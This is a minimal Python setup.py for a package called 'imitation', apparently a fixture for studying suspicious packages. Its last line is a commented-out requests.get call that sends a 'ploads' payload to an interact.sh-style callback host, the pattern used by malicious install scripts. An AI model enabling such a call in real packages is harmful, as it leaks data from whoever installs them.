from setuptools import setup

setup(name="imitation", version="1.0.0", packages=["imitation"])

#    requests.get("https://abc.interact.sh.example.com", params=ploads)
